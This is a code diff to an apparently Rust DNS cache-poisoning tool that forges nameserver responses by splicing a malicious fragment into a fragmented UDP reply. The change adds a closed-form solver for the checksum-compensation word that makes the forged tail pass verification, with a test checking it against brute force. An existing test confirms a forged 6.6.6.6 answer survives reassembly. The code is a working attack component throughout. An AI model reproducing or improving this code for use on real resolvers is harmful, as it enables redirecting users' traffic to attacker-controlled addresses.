@@ -11,7 +11,8 @@
 //!    payload and carried in the first (unmodified) fragment — must still
 //!    verify over the spliced datagram, so the 16-bit one's-complement sum of
 //!    the malicious tail must equal that of the genuine tail; we compensate
-//!    by adjusting the low 16 bits of a TTL field that lies inside the tail;
+//!    by adjusting the low 16 bits of a TTL field that lies inside the tail,
+//!    solving for the word in closed form rather than searching for it;
 //! 3. the fragment boundaries must match the ones the nameserver will use for
 //!    the path MTU the attacker forced via ICMP.
 
@@ -91,6 +92,30 @@ pub fn folded_sum(data: &[u8]) -> u16 {
     c.folded()
 }
 
+/// The smallest 16-bit word that, written at `tail[rel..rel + 2]`, gives
+/// `tail` the folded sum `target`, or `None` when no word does.
+///
+/// The word is solved for, not searched: with it zeroed, the tail sums to
+/// `s`, so it must add `r = (target - s) mod 0xffff` in one's-complement
+/// arithmetic. At an odd offset its bytes straddle two 16-bit words of the
+/// sum, which adds the word rotated by 8 bits; rotating `r` back undoes that.
+/// Zero and `0xffff` are the same residue, so `r = 0` has a second candidate.
+/// Each candidate, in ascending order, is checked with the exact
+/// [`folded_sum`], so the answer is the one a search over every word in
+/// ascending order would return.
+fn compensation_word(tail: &[u8], rel: usize, target: u16) -> Option<u16> {
+    let mut tail = tail.to_vec();
+    tail[rel..rel + 2].fill(0);
+    let sum = folded_sum(&tail);
+    let residue = ((u32::from(target) + 0xffff - u32::from(sum)) % 0xffff) as u16;
+    let residue = if rel % 2 == 1 { residue.rotate_left(8) } else { residue };
+    let candidates: &[u16] = if residue == 0 { &[0, 0xffff] } else { &[residue] };
+    candidates.iter().copied().find(|&word| {
+        tail[rel..rel + 2].copy_from_slice(&word.to_be_bytes());
+        folded_sum(&tail) == target
+    })
+}
+
 /// How the nameserver will fragment a UDP datagram of `udp_payload_len`
 /// (UDP header + DNS payload) for a path MTU of `mtu`: returns the byte
 /// ranges (within the IP payload) of each fragment.
@@ -165,7 +190,7 @@ pub fn craft_malicious_tail(dns_bytes: &[u8], mtu: u16, malicious_addr: Ipv4Addr
     // Checksum compensation: find a 16-bit word we may freely adjust — the
     // low half of a TTL field lying entirely within the tail (TTL changes do
     // not affect whether the forgery is accepted; they only alter how long it
-    // is cached). Prefer a record we already modified.
+    // is cached). The tail's last such TTL is used.
     let target_sum = folded_sum(genuine_tail);
     let comp_offset = spans
         .iter()
@@ -174,17 +199,9 @@ pub fn craft_malicious_tail(dns_bytes: &[u8], mtu: u16, malicious_addr: Ipv4Addr
         .next_back();
     let mut compensated = false;
     if let Some(abs_off) = comp_offset {
-        // Brute-force the 16-bit compensation word (cheap and exact, no
-        // one's-complement corner cases).
-        let rel = abs_off - dns_tail_start;
-        let mut tail = malicious[dns_tail_start..].to_vec();
-        for candidate in 0..=u16::MAX {
-            tail[rel..rel + 2].copy_from_slice(&candidate.to_be_bytes());
-            if folded_sum(&tail) == target_sum {
-                malicious[abs_off..abs_off + 2].copy_from_slice(&candidate.to_be_bytes());
-                compensated = true;
-                break;
-            }
+        if let Some(word) = compensation_word(&malicious[dns_tail_start..], abs_off - dns_tail_start, target_sum) {
+            malicious[abs_off..abs_off + 2].copy_from_slice(&word.to_be_bytes());
+            compensated = true;
         }
     }
 
@@ -304,6 +321,43 @@ mod tests {
         let dgram = UdpDatagram::from_packet(&reassembled).expect("UDP checksum must verify after splicing");
         let msg = Message::decode(&dgram.payload).unwrap();
         assert!(msg.answers.iter().any(|r| r.rdata.as_ipv4() == Some("6.6.6.6".parse().unwrap())));
+    }
+
+    /// The word a search over every candidate in ascending order finds.
+    fn brute_force_word(tail: &[u8], rel: usize, target: u16) -> Option<u16> {
+        let mut tail = tail.to_vec();
+        (0..=u16::MAX).find(|&word| {
+            tail[rel..rel + 2].copy_from_slice(&word.to_be_bytes());
+            folded_sum(&tail) == target
+        })
+    }
+
+    #[test]
+    fn closed_form_word_equals_the_brute_force_search() {
+        use rand::{Rng, SeedableRng};
+        let mut rng = rand_chacha::ChaCha20Rng::seed_from_u64(0xf7a6);
+        let mut cases = 0;
+        for len in [2usize, 3, 8, 13, 40] {
+            for all_zero in [false, true] {
+                let tail: Vec<u8> = (0..len).map(|_| if all_zero { 0 } else { rng.gen() }).collect();
+                // Every offset, even and odd, including the last word.
+                for rel in 0..=len - 2 {
+                    let drawn: u16 = rng.gen();
+                    // The genuine tail's own sum, a random target, and both
+                    // representations of the zero residue.
+                    for target in [folded_sum(&tail), drawn, 0x0000, 0xffff] {
+                        let expected = brute_force_word(&tail, rel, target);
+                        assert_eq!(
+                            compensation_word(&tail, rel, target),
+                            expected,
+                            "len {len}, zero {all_zero}, offset {rel}, target {target:#06x}"
+                        );
+                        cases += 1;
+                    }
+                }
+            }
+        }
+        assert!(cases > 200);
     }
 
     #[test]
